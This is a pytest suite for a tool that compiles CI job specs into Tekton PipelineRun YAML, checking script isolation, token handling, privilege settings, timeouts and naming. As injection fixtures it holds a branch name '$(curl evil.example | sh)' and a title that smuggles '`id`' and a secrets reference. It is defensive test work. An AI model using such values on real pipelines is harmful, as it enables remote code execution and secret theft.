from __future__ import annotations

from collections.abc import Iterator, Mapping
from typing import Any

import msgspec.structs
import pytest
import yaml

from pipelines.events import Event, EventKind, PullRequest
from pipelines.names import label_value, pipeline_run_name
from pipelines.planning import Plan, plan
from pipelines.scripts import shell_script
from pipelines.spec import Job, Matrix, SecretRef, Service, Spec, Step
from pipelines.tekton import (
    CompileOptions,
    compile_pipeline_run,
    go_duration,
    to_yaml,
)
from pipelines.tekton_rules import RetriesWithAllowFailureError, TektonVariableError, violations

HOSTILE_BRANCH = "$(curl evil.example | sh)"
HOSTILE_TITLE = "`id` ${{ secrets.TOKEN }} $(params.sha)"

PUSH = Event(
    kind=EventKind.PUSH,
    repository="acme/widget",
    repository_url="https://example.invalid/acme/widget.git",
    sha="3f786850e387550fdab836ed7e6dc881de23001b",
    ref="refs/heads/main",
    branch="main",
    author="alice",
)
HOSTILE = msgspec.structs.replace(
    PUSH,
    kind=EventKind.PULL_REQUEST,
    ref="refs/pull/1/head",
    branch=HOSTILE_BRANCH,
    author=HOSTILE_TITLE,
    pull_request=PullRequest(
        number=1, title=HOSTILE_TITLE, head_branch=HOSTILE_BRANCH,
        base_branch=HOSTILE_BRANCH, author=HOSTILE_TITLE,
    ),
)


def job(name: str, *needs: str, **fields: Any) -> Job:
    steps = fields.pop("steps", (Step(run=f"echo {name}"),))
    return Job(name=name, steps=steps, needs=needs, **fields)


def compiled(spec: Spec, event: Event = PUSH, **options: Any) -> dict[str, Any]:
    result = plan(spec, event)
    assert isinstance(result, Plan)
    run = compile_pipeline_run(result, event, options=CompileOptions(**options))
    assert violations(run) == ()
    return run


def tasks(run: Mapping[str, Any]) -> list[dict[str, Any]]:
    pipeline = run["spec"]["pipelineSpec"]
    return [*pipeline["tasks"], *pipeline.get("finally", [])]


def values_of(node: Any, key: str) -> Iterator[Any]:
    if isinstance(node, Mapping):
        for name, value in node.items():
            if name == key:
                yield value
            yield from values_of(value, key)
    elif isinstance(node, list):
        for item in node:
            yield from values_of(item, key)


SPEC = Spec(
    jobs=(
        job("test", image="python:3.12", matrix=Matrix(axes={"py": ("3.11", "3.12")}),
            services=(Service(name="db", image="postgres:16", env={"A": "b"}),),
            secrets=(SecretRef(env="TOKEN", secret="creds", key="token"),)),
        job("deploy", "test", retries=1, timeout_seconds=600),
    ),
    finally_jobs=(job("notify", is_finally=True),),
)


def test_event_data_is_in_no_script() -> None:
    run = compiled(SPEC, HOSTILE)
    scripts = list(values_of(run, "script"))
    assert scripts
    for script in scripts:
        assert HOSTILE_BRANCH not in script
        assert "`id`" not in script
        assert "${{" not in script
        assert "$(params." not in script
    # The hostile text is only in params (and annotations), and reaches steps as env refs.
    params = {p["name"]: p["value"] for p in run["spec"]["params"]}
    assert params["branch"] == HOSTILE_BRANCH
    assert params["pull-request-title"] == HOSTILE_TITLE
    env = {e["name"]: e["value"] for e in tasks(run)[0]["taskSpec"]["stepTemplate"]["env"]}
    assert env["FERRY_BRANCH"] == "$(params.branch)"
    assert env["FERRY_PULL_REQUEST_TITLE"] == "$(params.pull-request-title)"
    labels = run["metadata"]["labels"]
    assert all(HOSTILE_BRANCH not in value for value in labels.values())


@pytest.mark.parametrize(
    ("step", "field"),
    [
        (Step(run='echo "$(params.branch)"'), "run"),
        (Step(run="echo $(params['branch'])"), "run"),
        (Step(run="echo $(context.pipelineRun.name)"), "run"),
        (Step(run="cat $(workspaces.source.path)/x"), "run"),
        (Step(run="true", env={"X": "$(params.branch)"}), "env.X"),
        (Step(run="true", image="alpine:$(params.tag)"), "image"),
    ],
)
def test_tekton_variables_in_spec_text_are_refused(step: Step, field: str) -> None:
    spec = Spec(jobs=(job("test", steps=(step,)),))
    result = plan(spec, PUSH)
    assert isinstance(result, Plan)
    with pytest.raises(TektonVariableError) as raised:
        compile_pipeline_run(result, PUSH)
    assert raised.value.path == f"jobs.test.steps[0].{field}"
    assert "FERRY_BRANCH" in str(raised.value.problems[0])


@pytest.mark.parametrize(
    "run",
    ["echo $(date)", "echo $(git rev-parse HEAD)", "x=$(( 1 + 2 ))", "echo ${HOME}",
     "echo '$(paramsx)'"],
)
def test_ordinary_shell_is_accepted(run: str) -> None:
    compiled(Spec(jobs=(job("test", steps=(Step(run=run),)),)))


def test_retries_with_allow_failure_is_refused() -> None:
    result = plan(Spec(jobs=(job("a", retries=1, allow_failure=True),)), PUSH)
    assert isinstance(result, Plan)
    with pytest.raises(RetriesWithAllowFailureError):
        compile_pipeline_run(result, PUSH)


TOKENLESS = {
    "serviceAccountName": "default",
    "podTemplate": {"automountServiceAccountToken": False},
}


@pytest.mark.parametrize(
    ("options", "template", "labelled"),
    [
        ({}, TOKENLESS, False),
        ({"service_account": "ci"}, {"serviceAccountName": "ci"}, False),
        ({"untrusted": True}, TOKENLESS, True),
        # The account is for trusted runs: an untrusted one never gets it, whatever it says.
        ({"service_account": "ci", "untrusted": True}, TOKENLESS, True),
    ],
    ids=["no-account", "trusted-with-account", "untrusted", "untrusted-with-account"],
)
def test_pods_get_an_api_token_only_from_a_named_account_on_trusted_runs(
    options: dict[str, Any], template: dict[str, Any], labelled: bool
) -> None:
    run = compiled(SPEC, **options)
    assert run["spec"]["taskRunTemplate"] == template
    labels = run["metadata"]["labels"]
    assert (labels.get("ferry.dev/untrusted") == "true") is labelled
    assert labelled or "ferry.dev/untrusted" not in labels


def test_every_step_and_sidecar_runs_without_privilege_escalation() -> None:
    for task in tasks(compiled(SPEC)):
        spec = task["taskSpec"]
        # The template reaches every step, the clone included (Tekton merges it into each).
        assert spec["stepTemplate"]["securityContext"] == {"allowPrivilegeEscalation": False}
        assert all("securityContext" not in step for step in spec["steps"])
        for sidecar in spec.get("sidecars", []):
            assert sidecar["securityContext"] == {"allowPrivilegeEscalation": False}


def test_shape_of_a_job() -> None:
    run = compiled(SPEC, namespace="team", service_account="ci")
    assert run["apiVersion"] == "tekton.dev/v1" and run["kind"] == "PipelineRun"
    assert run["metadata"]["namespace"] == "team"
    assert run["spec"]["taskRunTemplate"] == {"serviceAccountName": "ci"}
    test = tasks(run)[0]
    assert test["name"] == "test-3-11"
    spec = test["taskSpec"]
    assert spec["metadata"]["labels"] == {
        "ferry.dev/job": "test-3-11",
        "ferry.dev/spec-job": "test",
    }
    assert [s["name"] for s in spec["steps"]] == ["clone", "run-1"]
    assert spec["steps"][0]["image"] == CompileOptions().clone_image
    assert spec["stepTemplate"]["workingDir"] == "/workspace/source"
    assert spec["sidecars"] == [
        {
            "name": "db",
            "image": "postgres:16",
            "env": [{"name": "A", "value": "b"}],
            "securityContext": {"allowPrivilegeEscalation": False},
        }
    ]
    assert spec["steps"][1]["env"] == [
        {"name": "MATRIX_PY", "value": "3.11"},
        {"name": "TOKEN", "valueFrom": {"secretKeyRef": {"name": "creds", "key": "token"}}},
    ]
    assert test["workspaces"] == [{"name": "source", "workspace": "source"}]
    assert run["spec"]["workspaces"] == [{"name": "source", "emptyDir": {}}]
    deploy = tasks(run)[2]
    assert deploy["runAfter"] == ["test-3-11", "test-3-12"]
    assert deploy["retries"] == 1 and deploy["timeout"] == "10m0s"
    assert [t["name"] for t in run["spec"]["pipelineSpec"]["finally"]] == ["notify"]
    assert "runAfter" not in run["spec"]["pipelineSpec"]["finally"][0]


def test_allow_failure_is_on_error_continue() -> None:
    run = compiled(Spec(jobs=(job("a", allow_failure=True), job("b"))))
    assert tasks(run)[0]["onError"] == "continue"
    assert "onError" not in tasks(run)[1]


def test_share_workspace_is_the_only_pvc() -> None:
    run = compiled(Spec(jobs=(job("a", share_workspace=True), job("b", "a", share_workspace=True),
                              job("c"))))
    bindings = [t["workspaces"][0]["workspace"] for t in tasks(run)]
    assert bindings == ["shared", "shared", "source"]
    spec_workspaces = {w["name"]: w for w in run["spec"]["workspaces"]}
    assert "volumeClaimTemplate" in spec_workspaces["shared"]
    assert spec_workspaces["source"] == {"name": "source", "emptyDir": {}}
    assert list(values_of(compiled(Spec(jobs=(job("a"),))), "volumeClaimTemplate")) == []


H = 3600


@pytest.mark.parametrize(
    ("spec", "timeouts", "task_timeouts"),
    [
        (Spec(jobs=(job("a"),)), {"pipeline": "1h0m0s"}, ["1h0m0s"]),
        # Longest chain: a(10m) -> b(20m), c(1h) in parallel: max(30m, 1h).
        (Spec(jobs=(job("a", timeout_seconds=600), job("b", "a", timeout_seconds=1200),
                    job("c"))), {"pipeline": "1h0m0s"}, ["10m0s", "20m0s", "1h0m0s"]),
        # Retries multiply a job's worst case.
        (Spec(jobs=(job("a", timeout_seconds=600, retries=2),)), {"pipeline": "30m0s"},
         ["10m0s"]),
        # Finally jobs get their own budget on top.
        (Spec(jobs=(job("a", timeout_seconds=600),),
              finally_jobs=(job("f", is_finally=True, timeout_seconds=60),)),
         {"pipeline": "11m0s", "tasks": "10m0s", "finally": "1m0s"}, ["10m0s", "1m0s"]),
        # The spec's timeout wins; jobs are cut to their section.
        (Spec(jobs=(job("a", timeout_seconds=2 * H),), timeout_seconds=H),
         {"pipeline": "1h0m0s"}, ["1h0m0s"]),
        (Spec(jobs=(job("a", timeout_seconds=2 * H),), timeout_seconds=H,
              finally_jobs=(job("f", is_finally=True, timeout_seconds=600),)),
         {"pipeline": "1h0m0s", "tasks": "50m0s", "finally": "10m0s"}, ["50m0s", "10m0s"]),
    ],
)
def test_timeouts(spec: Spec, timeouts: dict[str, str], task_timeouts: list[str]) -> None:
    run = compiled(spec)
    assert run["spec"]["timeouts"] == timeouts
    assert [t["timeout"] for t in tasks(run)] == task_timeouts


@pytest.mark.parametrize(
    ("seconds", "text"),
    [(0, "0s"), (45, "45s"), (60, "1m0s"), (90, "1m30s"), (3600, "1h0m0s"), (5430, "1h30m30s"),
     (86400, "24h0m0s")],
)
def test_go_duration(seconds: int, text: str) -> None:
    assert go_duration(seconds) == text


def test_run_name_is_idempotent_and_short() -> None:
    assert pipeline_run_name(PUSH) == pipeline_run_name(msgspec.structs.replace(PUSH, author="bob"))
    assert pipeline_run_name(PUSH) != pipeline_run_name(msgspec.structs.replace(PUSH, sha="1" * 40))
    assert pipeline_run_name(PUSH) != pipeline_run_name(
        msgspec.structs.replace(PUSH, kind=EventKind.MANUAL))
    long_name = msgspec.structs.replace(PUSH, repository="acme/" + "Very_Long.Name-" * 10)
    for name in (pipeline_run_name(PUSH), pipeline_run_name(long_name, prefix="ferry-"),
                 pipeline_run_name(HOSTILE)):
        assert len(name) <= 63
        assert violations({"apiVersion": "tekton.dev/v1", "kind": "PipelineRun",
                           "metadata": {"name": name},
                           "spec": {"pipelineSpec": {"tasks": [{"name": "a", "taskSpec": {
                               "steps": [{"name": "s", "image": "i", "script": "x"}]}}]}}}) == ()
    assert pipeline_run_name(PUSH).startswith("widget-3f78685-")


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("main", "main"),
        ("feature/x", "feature-x"),
        ("-weird-", "weird"),
        ("$(curl evil.example | sh)", "curl-evil.example-sh"),
        ("", ""),
    ],
)
def test_label_value(text: str, expected: str) -> None:
    assert label_value(text) == expected


def test_long_label_values_are_cut_with_a_hash() -> None:
    first, second = label_value("a/" * 50 + "x"), label_value("a/" * 50 + "y")
    assert len(first) <= 63 and first != second


def test_shell_script() -> None:
    script = shell_script("make test")
    assert script.startswith("#!/bin/sh\n")
    assert "bash -eo pipefail" in script
    assert script.endswith("set -e\nmake test\n")
    python = "#!/usr/bin/env python3\nprint(1)\n"
    assert shell_script(python) == python


def test_yaml_is_deterministic_and_round_trips() -> None:
    run = compiled(SPEC, HOSTILE)
    text = to_yaml(run)
    assert text == to_yaml(compiled(SPEC, HOSTILE))
    assert yaml.safe_load(text) == run
    assert "script: |" in text  # readable scripts


def test_ferry_variables_win_over_user_env() -> None:
    run = compiled(Spec(jobs=(job("a", env={"FERRY_SHA": "mine", "OWN": "1"}),)))
    step = tasks(run)[0]["taskSpec"]["steps"][1]
    assert step["env"] == [{"name": "OWN", "value": "1"}]
